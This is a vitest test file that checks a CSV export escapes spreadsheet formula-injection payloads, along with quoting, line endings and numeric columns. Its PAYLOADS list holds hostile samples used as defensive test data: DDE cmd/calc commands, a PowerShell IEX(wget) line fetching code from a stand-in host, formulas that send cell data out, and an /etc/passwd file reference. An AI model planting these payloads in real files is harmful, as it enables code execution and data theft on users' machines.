import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { aPlace } from '../aPlace.ts';
import { LANGUAGES } from '../LocalText.ts';
import type { PlanningFeature } from '../PlanningFeature.ts';
import { anExportContext } from './anExportContext.ts';
import { cleanText } from './cleanText.ts';
import { EXPORT_FIELDS } from './ExportRecord.ts';
import { toCsv } from './toCsv.ts';

const context = anExportContext();

/** By a parser that is not the writer, strict about quotes and the number of columns. */
function rowsOf(csv: string): Record<string, string>[] {
  return parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
}
/** As a spreadsheet that ends cells at one of these may see them: it heeds a quote only at the start of a cell, or strips all. */
function cellsOf(csv: string, separators: RegExp): string[] {
  return csv.replace(/^\ufeff/, '').split(separators).flatMap((cell) => [cell, cell.replaceAll('"', '')]);
}
/** Without the apostrophes that may have been set. */
const bare = (text: string) => text.replace(/^'/, '').replaceAll(/'(?=[=+\-@＝＋－＠])/g, '');
const named = (text: string): PlanningFeature => aPlace({ name: { 'zh-Hans': text, 'zh-Hant': '繁', en: 'en' }, aliases: [text] });

const PAYLOADS = [
  '=1+1',
  '=SUM(1,2)',
  '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
  '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  '=WEBSERVICE("http://example.invalid/")',
  '=IMAGE("http://example.invalid/a.png")',
  "=cmd|' /C calc'!A0",
  "=cmd|'/c powershell IEX(wget example.invalid/a)'!A0",
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '=DDE("cmd";"/C calc";"x")',
  "='file:///etc/passwd'#$passwd.A1",
  '+1+1',
  '+SUM(1,2)',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '-2+3+cmd|"/C calc"!A0',
  '--1',
  '@SUM(1+1)',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   @SUM(1)',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200e=1+1',
  '\u2060-1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '",=1+1',
  '"=1+1',
  '=1+1";=1+1',
  '=',
  '-',
] as const;

/** A cell that some spreadsheet might run: what a reader cuts off at the front is cut off first. */
const RUNS = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u;

test('the list of payloads is long and without repeats', () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(30);
});

test.each(PAYLOADS)('%j is a text in the file and not a formula', (payload) => {
  const [row] = rowsOf(toCsv([named(payload)], context));
  const cell = row?.['nameHans'] ?? '';
  expect(cell).not.toMatch(RUNS);
  expect(cell).not.toMatch(/^[\t\r\n]/);
  // Whatever was written, the words are still there.
  expect(bare(cell)).toBe(bare(cleanText(payload)));
  expect(row?.['nameEn']).toBe('en');
});

test.each(PAYLOADS.flatMap((payload) => LANGUAGES.map((language) => [payload, language] as const)))('%j in a list in %s starts no cell where cells end at semicolons or tabs', (payload, language) => {
  const place = aPlace({ aliases: ['Foo', payload, `a;${payload}`, `b； "${payload}`, `c\n${payload}`, 'Bar'] });
  const csv = toCsv([place], anExportContext({ language }));
  for (const separators of [/[;\r\n]/, /[;；\t\r\n]/]) {
    expect(cellsOf(csv, separators).filter((cell) => RUNS.test(cell))).toEqual([]);
  }
  const split: string[][] = parse(csv, { bom: true, delimiter: ';', relax_quotes: true, relax_column_count: true });
  expect(split.flat().filter((cell) => RUNS.test(cell))).toEqual([]);
  // Where cells end at commas, the list is one cell.
  const aliases = rowsOf(csv)[0]?.['aliases'] ?? '';
  expect(bare(aliases).startsWith('Foo')).toBe(true);
  expect(bare(aliases).endsWith('Bar')).toBe(true);
});

test('any text stands in its own cell as it was, at most with an apostrophe before what could be a formula', () => {
  const units = fc.oneof(fc.string({ unit: 'binary' }), fc.array(fc.constantFrom('"', ',', ';', '\r', '\n', '\t', '=', "'", '＝', ' ', '图')).map((parts) => parts.join('')));
  fc.assert(
    fc.property(units, units, (one, other) => {
      const rows = rowsOf(toCsv([named(one), named(other)], context));
      expect(rows).toHaveLength(2);
      for (const [index, text] of [one, other].entries()) {
        const cell = rows[index]?.['nameHans'] ?? '';
        const clean = cleanText(text);
        expect(bare(cell)).toBe(bare(clean));
        expect(cell).not.toMatch(RUNS);
        expect(cell.split(/[;；\t\r\n]/).filter((part) => RUNS.test(part))).toEqual([]);
      }
    }),
  );
});

test('the file starts with its byte order mark, ends every line with CR LF, and has a row a place', () => {
  const csv = toCsv([aPlace({ id: 'one' }), aPlace({ id: 'two' })], context);
  expect(csv.startsWith('\ufeffid,')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  expect(Object.keys(rowsOf(csv)[0] ?? {})).toEqual([...EXPORT_FIELDS]);
});

test('without places the columns are there all the same', () => {
  expect(toCsv([], context)).toBe(`\ufeff${EXPORT_FIELDS.join(',')}\r\n`);
});

test('numbers stay numbers, also below zero', () => {
  const csv = toCsv([aPlace({ geometry: { type: 'Point', coordinates: [-70.5, -33.25] } })], context);
  expect(rowsOf(csv)[0]).toMatchObject({ lon: '-70.5', lat: '-33.25', radiusMetres: '2500' });
});
